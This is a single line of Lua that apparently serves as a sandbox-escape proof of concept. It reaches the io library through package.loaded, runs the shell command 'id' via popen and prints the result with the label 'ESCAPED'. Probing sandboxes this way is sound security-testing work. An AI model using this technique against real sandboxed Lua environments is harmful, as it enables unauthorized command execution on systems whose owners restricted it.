print("ESCAPED", package.loaded.io.popen("id"))
